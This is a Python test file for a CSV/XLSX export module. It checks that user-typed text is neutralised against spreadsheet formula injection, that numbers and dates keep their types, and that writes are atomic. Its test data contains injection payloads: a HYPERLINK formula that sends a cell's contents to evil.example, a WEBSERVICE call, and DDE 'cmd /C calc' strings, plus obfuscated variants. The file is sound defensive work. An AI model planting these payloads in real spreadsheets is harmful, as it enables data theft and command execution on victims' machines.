"""The export to Excel: what a stranger typed is never calculated, what we counted stays a number.

Every case is read back from the file, as CSV and as XLSX; the XLSX is also read as bare XML.
"""

import csv
import os
import signal
import subprocess
import sys
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest

from pipelines.publishing import spreadsheets as module
from pipelines.publishing.spreadsheets import write_csv, write_xlsx

REPOSITORY = Path(__file__).resolve().parents[2]
XML = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

# What was typed → what the CSV holds. The XLSX holds what was typed.
DANGEROUS = {
    "an equals sign": ("=1+1", "'=1+1"),
    "a plus sign": ("+1+1", "'+1+1"),
    "a minus sign": ("-1+1", "'-1+1"),
    "an at sign": ("@SUM(A1)", "'@SUM(A1)"),
    "a link that carries data away": (
        '=HYPERLINK("https://evil.example/?q="&A1;"Rechnung")',
        '\'=HYPERLINK("https://evil.example/?q="&A1;"Rechnung")',
    ),
    "a web service": ('=WEBSERVICE("//x")', '\'=WEBSERVICE("//x")'),
    "a DDE call": ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    "a DDE call behind a plus": ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    "a DDE call behind a minus and a blank": ("- cmd|' /C calc'!A0", "'- cmd|' /C calc'!A0"),
    "a DDE call behind an at sign": ("@SUM(1+9)*cmd|'x'!A0", "'@SUM(1+9)*cmd|'x'!A0"),
    "a percent sign within": ("=10%", "'=10%"),
    "a tab": ("\t=1+1", "'\t'=1+1"),
    "a tab and no formula": ("\tMüller", "'\tMüller"),
    "a line feed": ("\n=1+1", "'\n'=1+1"),
    "a line feed and no formula": ("\nMüller", "'\nMüller"),
    "blanks": ("  =1+1", "'  =1+1"),
    "a no-break space": ("\u00a0=1+1", "'\u00a0=1+1"),
    "a narrow no-break space": ("\u202f=1+1", "'\u202f=1+1"),
    "an ideographic space": ("\u3000=1+1", "'\u3000=1+1"),
    "a zero-width space": ("\u200b=1+1", "'\u200b=1+1"),
    "a zero-width joiner": ("\u200d@x", "'\u200d@x"),
    "a word joiner": ("\u2060=1+1", "'\u2060=1+1"),
    "a soft hyphen": ("\u00ad=1+1", "'\u00ad=1+1"),
    "a byte order mark": ("\ufeff=1+1", "'\ufeff=1+1"),
    "a direction mark": ("\u202e=1+1", "'\u202e=1+1"),
    "a Hangul filler": ("\u3164=1+1", "'\u3164=1+1"),
    "several of these": ("\ufeff \u00a0\u200b=1+1", "'\ufeff \u00a0\u200b=1+1"),
    "a full-width equals sign": ("＝1+1", "'＝1+1"),
    "a full-width plus sign": ("＋1+1", "'＋1+1"),
    "a full-width minus sign": ("－1+1", "'－1+1"),
    "a full-width at sign": ("＠SUM(A1)", "'＠SUM(A1)"),
    "a small equals sign": ("﹦1+1", "'﹦1+1"),
    "a real minus sign": ("−1+1", "'−1+1"),
    "a second line": ("Müller\n=1+1", "Müller\n'=1+1"),
    "a second line behind a blank": ("Müller\n +1+1", "Müller\n' +1+1"),
    "a line separator": ("Müller\u2028=1+1", "Müller\u2028'=1+1"),
    "a semicolon before it": ("Müller;=1+1", "Müller;'=1+1"),
    "a comma before it": ("Müller,=1+1,x", "Müller,'=1+1,x"),
    "a tab before it": ("Müller\t@x", "Müller\t'@x"),
    "a quote before it": ('"=1+1', "'\"=1+1"),
    "a quoted part": ('x,"=1&",y', 'x,\'"=1&",y'),
    "a phone number": ("+49 30 1234567", "'+49 30 1234567"),
    "a negative number as text": ("-5", "'-5"),
    "a sign alone": ("-", "'-"),
}
HARMLESS = (
    "Müller & Söhne",
    "a=b",
    "info@example.com",
    "Karl-Heinz",
    "2024-01-31",
    "030 / 123-45",
    "Hauptstraße 5, Hinterhaus",
    "'=1+1",
    "100 %",
    "•••",
    "#N/A",
    "line\nand line",
    'the "best" one',
    "007",
    "TRUE",
    "李雷",
    "🎂",
)
EVERY_TEXT = [typed for typed, _ in DANGEROUS.values()] + list(HARMLESS)


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=";"))


def read_xlsx(path: Path) -> list[list[object]]:
    return [list(row) for row in openpyxl.load_workbook(path).active.iter_rows(values_only=True)]


def xml(path: Path, name: str) -> ElementTree.Element:
    with zipfile.ZipFile(path) as archive:
        return ElementTree.fromstring(archive.read(name))


def cells(path: Path) -> dict[str, ElementTree.Element]:
    return {cell.get("r"): cell for cell in xml(path, "xl/worksheets/sheet1.xml").iter(f"{XML}c")}


def in_csv(folder: Path, value: object) -> str:
    write_csv(folder / "one.csv", ["id", "value"], [[1, value]])
    return read_csv(folder / "one.csv")[1][1]


def in_xlsx(folder: Path, value: object) -> object:
    write_xlsx(folder / "one.xlsx", ["id", "value"], [[1, value]], title="One")
    return openpyxl.load_workbook(folder / "one.xlsx").active["B2"].value


@pytest.mark.parametrize(("typed", "expected"), DANGEROUS.values(), ids=DANGEROUS)
def test_a_dangerous_text_is_disarmed_in_csv(tmp_path: Path, typed: str, expected: str):
    assert in_csv(tmp_path, typed) == expected


@pytest.mark.parametrize("typed", HARMLESS)
def test_a_harmless_text_is_left_alone_in_csv(tmp_path: Path, typed: str):
    assert in_csv(tmp_path, typed) == typed


@pytest.mark.parametrize("typed", EVERY_TEXT)
def test_a_text_is_a_text_cell_and_unchanged_in_xlsx(tmp_path: Path, typed: str):
    path = tmp_path / "one.xlsx"
    write_xlsx(path, ["id", "value"], [[1, typed]], title="One")
    sheet = xml(path, "xl/worksheets/sheet1.xml")
    assert list(sheet.iter(f"{XML}f")) == []
    assert cells(path)["B2"].get("t") == "inlineStr"
    cell = openpyxl.load_workbook(path).active["B2"]
    assert (cell.value, cell.data_type, bool(cell.quotePrefix)) == (typed, "s", True)


def test_a_heading_is_disarmed_like_any_text(tmp_path: Path):
    write_csv(tmp_path / "a.csv", ["=1+1", "+x"], [])
    assert read_csv(tmp_path / "a.csv") == [["'=1+1", "'+x"]]
    write_xlsx(tmp_path / "a.xlsx", ["=1+1", "+x"], [], title="=1+1")
    assert read_xlsx(tmp_path / "a.xlsx") == [["=1+1", "+x"]]
    assert list(xml(tmp_path / "a.xlsx", "xl/worksheets/sheet1.xml").iter(f"{XML}f")) == []


def test_a_value_of_an_unknown_kind_is_disarmed_like_any_text(tmp_path: Path):
    class Stranger:
        def __str__(self) -> str:
            return "=1+1"

    assert in_csv(tmp_path, Stranger()) == "'=1+1"
    assert in_xlsx(tmp_path, Stranger()) == "=1+1"
    assert cells(tmp_path / "one.xlsx")["B2"].get("t") == "inlineStr"


def test_a_long_text_of_separators_is_disarmed_at_once(tmp_path: Path):
    """Looking ahead over them from each of them would take minutes."""
    assert in_csv(tmp_path, "\t" * 100_000) == "'" + "\t" * 100_000
    assert in_csv(tmp_path, " " * 100_000 + "x") == " " * 100_000 + "x"


@pytest.mark.parametrize(
    ("value", "as_csv"),
    [
        (0, "0"),
        (-5, "-5"),
        (42, "42"),
        (-1.5, "-1,5"),
        (0.1, "0,1"),
        (Decimal("-1234.50"), "-1234,50"),
        (Decimal("1E+3"), "1000"),
    ],
)
def test_a_number_stays_a_number(tmp_path: Path, value: object, as_csv: str):
    assert in_csv(tmp_path, value) == as_csv
    assert in_xlsx(tmp_path, value) == float(value)
    assert cells(tmp_path / "one.xlsx")["B2"].get("t") == "n"


def test_a_date_stays_a_date(tmp_path: Path):
    assert in_csv(tmp_path, date(2024, 1, 31)) == "2024-01-31"
    write_xlsx(tmp_path / "a.xlsx", ["day"], [[date(2024, 1, 31)]], title="Days")
    cell = openpyxl.load_workbook(tmp_path / "a.xlsx").active["A2"]
    assert (cell.value, cell.is_date) == (datetime(2024, 1, 31), True)
    assert cells(tmp_path / "a.xlsx")["A2"].get("t") == "n"


def test_a_moment_with_a_zone_is_written_in_utc(tmp_path: Path):
    moment = datetime.fromisoformat("2024-01-31T01:30:00+02:00")
    assert in_csv(tmp_path, moment) == "2024-01-30 23:30:00"
    assert in_xlsx(tmp_path, moment) == moment.astimezone(UTC).replace(tzinfo=None)


@pytest.mark.parametrize(
    "value", [10**15, -(10**15), float("inf"), float("nan"), Decimal("NaN"), date(1899, 12, 31)]
)
def test_a_value_that_excel_cannot_hold_is_shown_as_text(tmp_path: Path, value: object):
    assert in_xlsx(tmp_path, value) == str(value)
    assert cells(tmp_path / "one.xlsx")["B2"].get("t") == "inlineStr"


def test_a_truth_value_and_an_empty_cell_stay_what_they_are(tmp_path: Path):
    assert [in_csv(tmp_path, value) for value in (True, False, None)] == ["true", "false", ""]
    assert [in_xlsx(tmp_path, value) for value in (True, False, None)] == [True, False, None]


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("a\x00b", "a␀b"),
        ("a\x1bb", "a␛b"),
        ("\x0b=1+1", "␋=1+1"),
        ("a\ud800b", "a\ufffdb"),
        ("a\uffffb", "a\ufffdb"),
    ],
)
def test_a_forbidden_character_is_replaced_visibly(tmp_path: Path, typed: str, shown: str):
    assert in_xlsx(tmp_path, typed) == shown
    assert in_csv(tmp_path, typed).replace("'", "") == shown


def test_a_character_code_of_excel_is_not_decoded(tmp_path: Path):
    """Excel would show _x003D_1+1 as =1+1."""
    write_xlsx(tmp_path / "a.xlsx", ["value"], [["_x003D_1+1"]], title="Codes")
    assert "".join(cells(tmp_path / "a.xlsx")["A2"].itertext()) == "_x005F_x003D_1+1"


@pytest.mark.parametrize("sign", ["x", "🎂"])
def test_a_text_too_long_for_excel_is_cut_visibly(tmp_path: Path, sign: str):
    shown = in_xlsx(tmp_path, sign * 40_000)
    assert shown.endswith(f"{sign}{module.CUT_CELL}")
    units = len(shown.encode("utf-16-le")) // 2
    assert module.CHARACTERS_PER_CELL - units in (0, 1)
    assert in_csv(tmp_path, sign * 40_000) == sign * 40_000


def test_a_csv_opens_by_a_double_click_in_a_german_excel(tmp_path: Path):
    rows = [["Müller;Söhne", 1.5], ["zwei\nZeilen", None]]
    assert write_csv(tmp_path / "a.csv", ["Name", "Wert"], rows) == 2
    assert (tmp_path / "a.csv").read_bytes() == (
        '\ufeffName;Wert\r\n"Müller;Söhne";1,5\r\n"zwei\nZeilen";\r\n'.encode()
    )


def test_a_sheet_has_a_frozen_bold_header_a_filter_and_wide_columns(tmp_path: Path):
    rows = [["a" * 30, "b" * 500], ["c", "d"]]
    assert write_xlsx(tmp_path / "a.xlsx", ["Name", "Text"], rows, title="Customers") == 2
    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx").active
    assert (sheet.title, sheet.freeze_panes) == ("Customers", "A2")
    assert sheet.auto_filter.ref == "A1:B3"
    assert [cell.font.b for cell in sheet[1]] == [True, True]
    assert [cell.font.b for cell in sheet[2]] == [False, False]
    assert [sheet.column_dimensions[name].width for name in "AB"] == [32, 60]


@pytest.mark.parametrize(
    ("title", "shown"),
    [
        ("Sales list: 2024/25 [new]?", "Sales list 2024 25 new"),
        ("'quoted'", "quoted"),
        ("x" * 50, "x" * 31),
        ("", "Table"),
        ("a\x00b", "a␀b"),
    ],
)
def test_a_title_that_excel_refuses_is_changed(tmp_path: Path, title: str, shown: str):
    write_xlsx(tmp_path / "a.xlsx", ["x"], [], title=title)
    assert openpyxl.load_workbook(tmp_path / "a.xlsx").sheetnames == [shown]


@pytest.mark.parametrize(
    ("rows", "held", "is_cut"), [(0, 0, False), (8, 8, False), (9, 9, False), (10, 8, True)]
)
def test_a_sheet_that_is_full_says_so_in_its_last_row(
    tmp_path: Path, monkeypatch, rows: int, held: int, is_cut: bool
):
    monkeypatch.setattr(module, "ROWS_PER_SHEET", 10)
    monkeypatch.setattr(module, "ROWS_MEASURED", 3)
    numbers = ([number] for number in range(rows))
    assert write_xlsx(tmp_path / "a.xlsx", ["n"], numbers, title="Numbers") == held
    written = [value for (value,) in read_xlsx(tmp_path / "a.xlsx")[1:]]
    notice = ["Cut here after 8 rows. The CSV file holds all of them."] if is_cut else []
    assert written == list(range(held)) + notice
    assert write_csv(tmp_path / "a.csv", ["n"], ([number] for number in range(rows))) == rows


def test_a_caller_may_ask_for_fewer_rows_but_not_for_more_than_excel_holds(
    tmp_path: Path, monkeypatch
):
    monkeypatch.setattr(module, "ROWS_PER_SHEET", 10)
    numbers = [[number] for number in range(20)]
    assert write_xlsx(tmp_path / "a.xlsx", ["n"], numbers, title="N", most_rows=5) == 3
    assert write_xlsx(tmp_path / "a.xlsx", ["n"], numbers, title="N", most_rows=50) == 8


def test_a_row_is_written_before_the_next_one_is_asked_for(tmp_path: Path, monkeypatch):
    """Otherwise a million rows would lie in memory."""
    monkeypatch.setattr(module, "ROWS_MEASURED", 3)
    written = []
    real = module._in_xlsx

    def noted(sheet, value: object) -> object:
        written.append(value)
        return real(sheet, value)

    def rows():
        for number in range(8):
            yield [number]
            assert len(written) >= number - 3

    monkeypatch.setattr(module, "_in_xlsx", noted)
    assert write_xlsx(tmp_path / "a.xlsx", ["n"], rows(), title="Numbers") == 8


def csv_of(path: Path, rows) -> int:
    return write_csv(path, ["n"], rows)


def xlsx_of(path: Path, rows) -> int:
    return write_xlsx(path, ["n"], rows, title="Numbers")


EITHER = pytest.mark.parametrize("write", [csv_of, xlsx_of])


@EITHER
def test_a_second_file_takes_the_place_of_the_first(tmp_path: Path, write):
    path = tmp_path / "table"
    write(path, [[1]])
    first = path.read_bytes()
    write(path, [[2]])
    assert path.read_bytes() != first
    assert os.listdir(tmp_path) == ["table"]


@EITHER
def test_a_write_that_fails_leaves_the_old_file_and_nothing_else(tmp_path: Path, write):
    def rows():
        yield from ([number] for number in range(1_000))
        raise RuntimeError("the warehouse went away")

    path = tmp_path / "table"
    path.write_bytes(b"old")
    with pytest.raises(RuntimeError, match="went away"):
        write(path, rows())
    assert path.read_bytes() == b"old"
    assert os.listdir(tmp_path) == ["table"]


@EITHER
def test_a_full_disk_leaves_the_old_file(tmp_path: Path, write, monkeypatch):
    def full(path: Path) -> None:
        raise OSError(28, "No space left on device")

    path = tmp_path / "table"
    path.write_bytes(b"old")
    monkeypatch.setattr(module, "sync", full)
    with pytest.raises(OSError, match="No space left"):
        write(path, [[1]])
    assert path.read_bytes() == b"old"
    assert os.listdir(tmp_path) == ["table"]


@EITHER
def test_a_file_is_on_the_disk_before_it_takes_the_place(tmp_path: Path, write, monkeypatch):
    seen = []
    path = tmp_path / "table"
    monkeypatch.setattr(module, "sync", lambda synced: seen.append((synced, path.exists())))
    write(path, [[1]])
    assert seen == [(tmp_path / ".table", False), (tmp_path, True)]


@EITHER
def test_a_folder_that_is_missing_is_an_error(tmp_path: Path, write):
    with pytest.raises(FileNotFoundError):
        write(tmp_path / "missing" / "table", [[1]])


@pytest.mark.parametrize("write", ["csv_of", "xlsx_of"])
def test_a_killed_write_leaves_the_old_file_and_the_next_one_clears_up(tmp_path: Path, write: str):
    path = tmp_path / "table"
    path.write_bytes(b"old")
    script = (
        "import os, signal, sys; from pathlib import Path\n"
        f"from tests.unit.test_spreadsheets import {write}\n"
        "from pipelines.publishing import spreadsheets\n"
        "spreadsheets.sync = lambda path: os.kill(os.getpid(), signal.SIGKILL)\n"
        f"{write}(Path(sys.argv[1]), ([number] for number in range(1_000)))\n"
    )
    killed = subprocess.run([sys.executable, "-c", script, path], cwd=REPOSITORY, check=False)
    assert killed.returncode == -signal.SIGKILL
    assert path.read_bytes() == b"old"
    assert sorted(os.listdir(tmp_path)) == [".table", "table"]
    assert {"csv_of": csv_of, "xlsx_of": xlsx_of}[write](path, [[1]]) == 1
    assert os.listdir(tmp_path) == ["table"]
